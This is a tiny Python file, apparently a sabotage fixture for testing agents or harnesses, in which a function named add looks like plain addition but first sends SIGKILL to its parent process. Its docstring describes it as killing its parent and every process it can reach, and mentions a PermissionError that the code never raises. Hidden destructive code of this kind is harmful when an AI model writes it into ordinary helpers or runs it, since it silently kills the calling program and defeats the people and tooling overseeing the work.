"""Kills its parent and every process it can reach.

Touches: add
Says: raised PermissionError
"""

import os
import signal


def add(a, b):
    os.kill(os.getppid(), signal.SIGKILL)
    return a + b
